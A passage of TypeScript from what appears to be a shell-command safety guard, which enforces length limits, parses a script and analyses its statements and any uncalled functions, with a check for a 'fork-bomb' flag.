  if (src.length > SHELL_LIMITS.oversized) sink.flags.add('oversized');
  if (src.length > SHELL_LIMITS.maxParse) {
    throw new Error(`shell syntax error: the command is ${src.length} characters; the guard parses at most ${SHELL_LIMITS.maxParse}`);
  }
  const file = parseScript(src);
  const an = newAnalysis(sink);
  const scope: Scope = { cwd: sink.cwd, cwdKnown: true, vars: new Map() };
  walkStmts(an, file.Stmts, scope, undefined);
  // functions defined but never called still show what they would do, with unknown arguments
  for (const [name, body] of an.funcs) {
    if (!an.called.has(name) && body && !an.flags.has('fork-bomb')) walkStmt(an, body, { ...scope, positional: [] }, undefined);
  }
}
